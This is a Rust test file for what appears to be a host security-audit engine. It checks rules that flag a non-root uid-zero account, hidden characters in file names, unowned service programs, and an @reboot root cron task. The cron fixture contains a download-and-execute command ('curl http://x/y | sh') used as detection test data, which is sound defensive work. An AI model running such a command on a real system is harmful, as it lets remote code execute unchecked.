//! The engine on inventories made by hand.
#![allow(clippy::unwrap_used)]
use super::*;
use crate::base::{Evidence, Name};
use crate::inventory::{Account, File, Service, Task};
use std::sync::Arc;

fn at(path: &str) -> Evidence {
    Evidence { path: path.into(), ..Evidence::default() }
}

fn subjects(inventory: &Inventory) -> Vec<(String, String)> {
    let knowledge = Knowledge::load(&[]).unwrap();
    judge(&knowledge, &Baselines::default(), &Policy::default(), "2026-01-01", &Scene::default(), inventory, &[])
        .findings
        .into_iter()
        .map(|f| (f.rule, f.subject))
        .collect()
}

fn account(name: &str, uid: u32) -> Account {
    Account { name: name.into(), uid, shell: "/bin/bash".into(), evidence: at("/etc/passwd"), ..Account::default() }
}

#[test]
fn a_rule_flags_its_rows_and_no_others() {
    let inventory =
        Inventory { accounts: Arc::new(vec![account("root", 0), account("service", 0)]), ..Inventory::default() };
    assert_eq!(subjects(&inventory), [("account-with-uid-zero".to_owned(), "service".to_owned())]);
}

#[test]
fn words_are_filled_and_ids_do_not_depend_on_them() {
    let knowledge = Knowledge::load(&[]).unwrap();
    let task = Task {
        name: "/etc/cron.d/u".into(),
        schedule: "@reboot".into(),
        user: "root".into(),
        command: "curl http://x/y | sh".into(),
        evidence: at("/etc/cron.d/u"),
        ..Task::default()
    };
    let inventory = Inventory { tasks: Arc::new(vec![task]), ..Inventory::default() };
    let judged =
        judge(&knowledge, &Baselines::default(), &Policy::default(), "2026-01-01", &Scene::default(), &inventory, &[]);
    let finding = judged.findings.first().unwrap();
    assert!(finding.observed.contains("By the schedule '@reboot', root runs: curl http://x/y | sh."), "{finding:?}");
    assert_eq!(finding.id, crate::base::short_id("f", &[finding.rule.as_bytes(), b"", finding.subject.as_bytes()]));
    assert_eq!(judged.searched.len() as u64, knowledge.rule_count());
    assert!(judged.searched.iter().any(|s| s.rule == finding.rule && s.hits == 1 && s.inputs == "1 tasks"));
}

#[test]
fn names_with_unseen_characters_but_not_foreign_ones() {
    let file = |path: Name, deleted| File {
        path: path.clone(),
        kind: "file".into(),
        deleted,
        evidence: Evidence { path, ..Evidence::default() },
        ..File::default()
    };
    let inventory = Inventory {
        files: Arc::new(vec![
            file("/home/a\u{202e}b".into(), false),
            file("/home/c\u{200b}d".into(), true),
            file("/opt/岸桥".into(), false),
            file(Name::new(b"/opt/\xb0\xb6"), false),
        ]),
        ..Inventory::default()
    };
    let found = subjects(&inventory);
    assert_eq!(found, [("file-name-with-unseen-characters".to_owned(), "/home/a\\u{202e}b".to_owned())]);
}

/// A rule of the test's own, given as a folder.
fn with_rule(text: &str) -> Result<Knowledge, Vec<RuleError>> {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("own.toml"), text).unwrap();
    Knowledge::load(&[dir.path().to_owned()])
}

const JOINED: &str = r#"
id = "own-rule"
title = "t"
category = "persistence"
severity = "low"
table = "services"
observed = "{name} starts {program}, {files.package_check}, {files.size} bytes"
supports = "s"
does-not-show = "d"
ordinary-explanations = "o"
check = "c"
where = { enabled = true }
[[join]]
table = "files"
on = { path = "program" }
where = { package_check = "unowned" }
[[join]]
table = "tasks"
on = { program = "files.path" }
none = true
"#;

#[test]
fn joins_follow_cells_within_a_system() {
    let knowledge = with_rule(JOINED).unwrap();
    let service = |name: &str, program: &str, system| Service {
        system: Some(system),
        name: name.into(),
        enabled: true,
        program: Some(program.into()),
        ..Service::default()
    };
    let file = |path: &str, check: &str, system| File {
        system: Some(system),
        path: path.into(),
        package_check: check.into(),
        size: 7,
        evidence: at(path),
        ..File::default()
    };
    let inventory = Inventory {
        services: Arc::new(vec![
            service("a", "/opt/a", 0),
            service("b", "/usr/b", 0),
            service("c", "/opt/a", 1),
            service("d", "/opt/d", 0),
        ]),
        files: Arc::new(vec![file("/opt/a", "unowned", 0), file("/usr/b", "ok", 0), file("/opt/d", "unowned", 0)]),
        tasks: Arc::new(vec![Task { system: Some(0), program: Some("/opt/d".into()), ..Task::default() }]),
        ..Inventory::default()
    };
    let judged = judge(&knowledge, &Baselines::default(), &Policy::default(), "", &Scene::default(), &inventory, &[]);
    let own: Vec<&Finding> = judged.findings.iter().filter(|f| f.rule == "own-rule").collect();
    assert_eq!(own.len(), 1, "{own:?}");
    let finding = own.first().unwrap();
    assert_eq!(finding.observed, "a starts /opt/a, unowned, 7 bytes");
    assert_eq!(finding.evidence.len(), 2);
}

#[test]
fn errors_name_file_line_and_fault() {
    for (change, line, what) in [
        (("severity = \"low\"", "severity = \"grave\""), 5, "no severity"),
        (("{ enabled = true }", "{ enabeld = true }"), 12, "no column `enabeld`"),
        (("{program}", "{progam}"), 7, "no column `progam`"),
        (("table = \"tasks\"", "table = \"taks\""), 18, "no table"),
        (("title = \"t\"", "title = 5"), 3, "invalid type"),
        (("check = \"c\"", "check = \"c\"\ncolour = 1"), 12, "unknown field"),
    ] {
        let errors = with_rule(&JOINED.replace(change.0, change.1)).unwrap_err();
        let error = errors.first().unwrap();
        assert!(error.file.ends_with("own.toml") && error.what.contains(what), "{error}");
        assert_eq!(error.line, line, "{error}");
    }
    let twice = with_rule(&JOINED.replace("own-rule", "account-with-uid-zero")).unwrap();
    assert_eq!(twice.rule("account-with-uid-zero").unwrap().title, "t");
}

#[test]
fn what_another_rule_tells_with_the_same_evidence_is_dropped() {
    let knowledge = with_rule(
        r#"
id = "own-rule"
title = "t"
category = "account"
severity = "low"
table = "accounts"
observed = "o"
supports = "s"
does-not-show = "d"
ordinary-explanations = "o"
check = "c"
where = { uid = 0 }
suppressed-by = ["account-with-uid-zero"]
"#,
    )
    .unwrap();
    let mut root = account("root", 0);
    root.evidence.line = Some(1);
    let mut other = account("service", 0);
    other.evidence.line = Some(2);
    let inventory = Inventory { accounts: Arc::new(vec![root, other]), ..Inventory::default() };
    let found: Vec<(String, String)> =
        judge(&knowledge, &Baselines::default(), &Policy::default(), "", &Scene::default(), &inventory, &[])
            .findings
            .into_iter()
            .map(|f| (f.rule, f.subject))
            .collect();
    assert_eq!(
        found,
        [("account-with-uid-zero".to_owned(), "service".to_owned()), ("own-rule".to_owned(), "root".to_owned())]
    );
}
